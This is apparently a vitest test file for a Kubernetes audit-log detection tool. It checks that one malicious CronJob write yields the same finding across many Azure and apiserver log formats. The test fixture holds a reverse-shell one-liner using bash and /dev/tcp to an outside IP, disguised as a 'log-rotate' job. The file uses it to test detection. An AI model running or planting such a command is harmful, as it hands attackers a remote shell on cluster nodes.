import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readInputs } from '../../src/inputs/read-inputs.js';
import { aksRecord, auditEvent, CLUSTER_ID, cronJobBody, podSpec } from '../helpers/audit.js';
import { cli } from '../helpers/cli.js';
import { activityRecord } from '../helpers/detector.js';
import {
  aksAuditRow,
  azureActivityRow,
  azureDiagnosticsRow,
  queryResponse,
  restEventData,
  toCsv,
} from '../helpers/shapes.js';

interface Row {
  FindingId: string;
  RuleId: string;
  ClusterName: string | null;
  ClusterResourceId: string | null;
  WorkloadName: string | null;
  Caller: string | null;
  Severity: string;
  TimeGenerated: string;
}

const SEED_RULE = 'f4fc1f0e-ebc3-4f51-808e-2b12ba1883d8';
const SIGMAHQ_RULE = '1c71e254-6655-42c1-b2d6-5e4718d7fc0a';

/** A reverse-shell CronJob on alpine: the seed rule fires on it. */
const EVENT = auditEvent({
  name: 'log-rotate',
  requestObject: cronJobBody(
    podSpec({
      image: 'docker.io/library/alpine:3.20',
      command: ['/bin/sh', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
    }),
  ),
});
/** A benign read in the same files, which must give nothing. */
const READ = {
  ...auditEvent({ verb: 'get', resource: 'configmaps' }),
  auditID: '0a0a0a0a-1b1b-4c2c-8d3d-4e4e4e4e4e4e',
};
const ACTIVITY = activityRecord('Microsoft.ContainerService/managedClusters/batch/cronjobs/write');

function dir(): string {
  return mkdtempSync(join(tmpdir(), 'kjd-shapes-'));
}

async function scan(
  path: string,
  ...extra: string[]
): Promise<{ rows: Row[]; code: number; stderr: string }> {
  const { code, stdout, stderr } = await cli('scan', '--format', 'jsonl', ...extra, path);
  const rows = stdout
    .trim()
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as Row);
  return { rows, code, stderr };
}

const jsonl = (records: readonly unknown[]): string =>
  records.map((r) => JSON.stringify(r)).join('\n') + '\n';

describe('every shape of one kube-audit write gives the same finding', () => {
  const auditShapes: Record<string, { file: string; text: string }> = {
    'diagnostic export (PT1H.json)': { file: 'PT1H.json', text: jsonl([aksRecord(READ), aksRecord(EVENT)]) },
    'AKSAuditAdmin rows, dynamic columns as objects': {
      file: 'aks-audit-admin.json',
      text: JSON.stringify([aksAuditRow(READ), aksAuditRow(EVENT)], null, 2),
    },
    'AKSAudit rows as JSON Lines, dynamic columns as JSON text': {
      file: 'aks-audit.jsonl',
      text: jsonl([
        aksAuditRow(READ, { asText: true, table: 'AKSAudit' }),
        aksAuditRow(EVENT, { asText: true, table: 'AKSAudit' }),
      ]),
    },
    'az monitor log-analytics query output (TableName column)': {
      file: 'az-query.json',
      text: JSON.stringify(
        [READ, EVENT].map((e) => ({ ...aksAuditRow(e, { asText: true }), TableName: 'PrimaryResult' })),
        null,
        2,
      ),
    },
    'CSV export with quoted JSON cells': {
      file: 'export.csv',
      text: toCsv([aksAuditRow(READ), aksAuditRow(EVENT)]),
    },
    'query API answer (tables, columns, rows)': {
      file: 'query-answer.json',
      text: JSON.stringify(queryResponse([aksAuditRow(READ), aksAuditRow(EVENT)])),
    },
    'AzureDiagnostics rows (log_s)': {
      file: 'azure-diagnostics.json',
      text: JSON.stringify([azureDiagnosticsRow(READ), azureDiagnosticsRow(EVENT)]),
    },
    'apiserver audit.log, one Event per line': { file: 'audit.log', text: jsonl([READ, EVENT]) },
    'webhook EventList': {
      file: 'eventlist.json',
      text: JSON.stringify(
        { kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items: [READ, EVENT] },
        null,
        1,
      ),
    },
  };

  it('finds the CronJob once per shape, with one FindingId across all shapes', async () => {
    const root = dir();
    const ids = new Map<string, string>();
    for (const [shape, { file, text }] of Object.entries(auditShapes)) {
      const path = join(root, file);
      writeFileSync(path, text);
      const { rows, code, stderr } = await scan(path, '--cluster-id', CLUSTER_ID);
      expect({ shape, code, stderr: code === 0 ? '' : stderr }).toEqual({ shape, code: 0, stderr: '' });
      // The name keeps the case of the id each shape carries (the export upper-cases it).
      expect(
        rows.map((r) => [
          shape,
          r.RuleId,
          r.WorkloadName,
          r.Caller,
          r.ClusterName?.toLowerCase(),
          r.Severity,
        ]),
      ).toEqual([[shape, SEED_RULE, 'log-rotate', 'mallory@contoso.example', 'aks-pay-01', 'high']]);
      ids.set(shape, (rows[0] as Row).FindingId);
    }
    expect(new Set(ids.values()).size).toBe(1);
  });

  it('keeps the Event time as the finding time in every shape', async () => {
    const root = dir();
    for (const { file, text } of Object.values(auditShapes)) writeFileSync(join(root, file), text);
    const { rows } = await scan(root, '--cluster-id', CLUSTER_ID);
    expect(rows).toHaveLength(Object.keys(auditShapes).length);
    expect(new Set(rows.map((r) => Date.parse(r.TimeGenerated)))).toEqual(
      new Set([Date.parse('2025-03-04T09:15:27.431220Z')]),
    );
  });

  it('keeps shaped JSON Lines away from the export prefilter, which a "log" key would mislead', async () => {
    // In the export the Event is escaped text in properties.log; in a raw line its keys are raw
    // JSON, so a label named "log" would start one of the export prefilter's per-log segments.
    const { annotations: _annotations, ...rest } = EVENT;
    const reordered = { annotations: { log: 'x' }, ...rest };
    const path = join(dir(), 'audit.log');
    writeFileSync(path, jsonl([reordered]));
    const { rows } = await scan(path, '--cluster-id', CLUSTER_ID);
    expect(rows.map((r) => r.RuleId)).toEqual([SEED_RULE]);
  });
});

describe('every shape of one Activity Log write gives the same finding', () => {
  it('export, REST EventData and AzureActivity rows (JSON, CSV) share the FindingId', async () => {
    const shapes: Record<string, { file: string; text: string }> = {
      export: { file: 'PT1H.json', text: jsonl([ACTIVITY]) },
      'az monitor activity-log list': {
        file: 'activity-list.json',
        text: JSON.stringify([restEventData(ACTIVITY)], null, 2),
      },
      'AzureActivity rows': {
        file: 'azure-activity.json',
        text: JSON.stringify([azureActivityRow(ACTIVITY)]),
      },
      'AzureActivity CSV': {
        file: 'azure-activity.csv',
        text: toCsv([azureActivityRow(ACTIVITY, { asText: true })]),
      },
    };
    const ids = new Set<string>();
    for (const [shape, { file, text }] of Object.entries(shapes)) {
      const path = join(dir(), file);
      writeFileSync(path, text);
      const { rows, code } = await scan(path);
      expect([shape, code, rows.map((r) => [r.RuleId, r.ClusterName, r.Caller])]).toEqual([
        shape,
        0,
        [[SIGMAHQ_RULE, 'aks-pay-01', 'mallory@contoso.example']],
      ]);
      ids.add((rows[0] as Row).FindingId);
    }
    expect(ids.size).toBe(1);
  });
});

describe('raw apiserver audit files', () => {
  it('say ClusterName unknown without --cluster-id, and the summary says how to set it', async () => {
    const path = join(dir(), 'audit.log');
    writeFileSync(path, jsonl([READ, EVENT]));
    const { rows, stderr } = await scan(path);
    expect(rows.map((r) => [r.ClusterName, r.ClusterResourceId])).toEqual([['unknown', null]]);
    expect(stderr).toContain('pass --cluster-id <ARM resource id or cluster name>');
  });

  it('take a bare cluster name from --cluster-id', async () => {
    const path = join(dir(), 'audit.log');
    writeFileSync(path, jsonl([EVENT]));
    const { rows, stderr } = await scan(path, '--cluster-id', 'k3s-edge-07');
    expect(rows.map((r) => [r.ClusterName, r.ClusterResourceId])).toEqual([['k3s-edge-07', null]]);
    expect(stderr).not.toContain('--cluster-id');
  });

  it('reject a --cluster-id that looks like an ARM id of something else', async () => {
    const path = join(dir(), 'audit.log');
    writeFileSync(path, jsonl([EVENT]));
    const { code, stderr } = await cli(
      'scan',
      '--cluster-id',
      '/subscriptions/x/resourceGroups/y/providers/Microsoft.Web/sites/z',
      path,
    );
    expect(code).toBe(2);
    expect(stderr).toContain('is not the ARM id of a managed or connected cluster');
  });

  it('streams an EventList of 10,000 events: each Event is its own body, the first before the file is read', async () => {
    const path = join(dir(), 'eventlist.json');
    const items = Array.from({ length: 10_000 }, (_, i) => ({
      ...READ,
      auditID: `00000000-0000-4000-8000-${String(i).padStart(12, '0')}`,
    }));
    items[9_999] = { ...EVENT, auditID: 'ffffffff-0000-4000-8000-000000000000' };
    writeFileSync(
      path,
      JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', metadata: {}, items }),
    );
    let bytesRead = 0;
    let bytesAtFirst: number | undefined;
    let bodies = 0;
    for await (const item of readInputs([path], { onBytes: (n) => (bytesRead += n) })) {
      expect(item.kind).toBe('body');
      if (item.kind !== 'body') continue;
      bytesAtFirst ??= bytesRead;
      expect(item.origin.event).toBe(bodies);
      expect((item.body as { auditID: string }).auditID).toBe(items[bodies]?.auditID);
      bodies++;
    }
    expect(bodies).toBe(10_000);
    expect(bytesAtFirst).toBeLessThan(bytesRead / 10);
    const { rows } = await scan(path, '--cluster-id', CLUSTER_ID);
    expect(rows.map((r) => r.WorkloadName)).toEqual(['log-rotate']);
  });

  it('reports a truncated EventList with where it stopped, and keeps the Events before it', async () => {
    const path = join(dir(), 'eventlist.json');
    const text = JSON.stringify({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [EVENT, READ] });
    writeFileSync(path, text.slice(0, text.length - 40));
    const { rows, code, stderr } = await scan(path, '--cluster-id', CLUSTER_ID);
    expect(code).toBe(3);
    expect(rows.map((r) => r.WorkloadName)).toEqual(['log-rotate']);
    expect(stderr).toMatch(/eventlist\.json, event 1/);
  });
});

describe('CSV exports', () => {
  it('report a broken CSV row with its line and keep the rows before it', async () => {
    const path = join(dir(), 'export.csv');
    writeFileSync(path, `${toCsv([aksAuditRow(EVENT)])}"unclosed,quote\n`);
    const { rows, code, stderr } = await scan(path, '--cluster-id', CLUSTER_ID);
    expect(code).toBe(3);
    expect(rows).toHaveLength(1);
    expect(stderr).toMatch(/export\.csv, line \d+.*CSV reading stopped/s);
  });
});
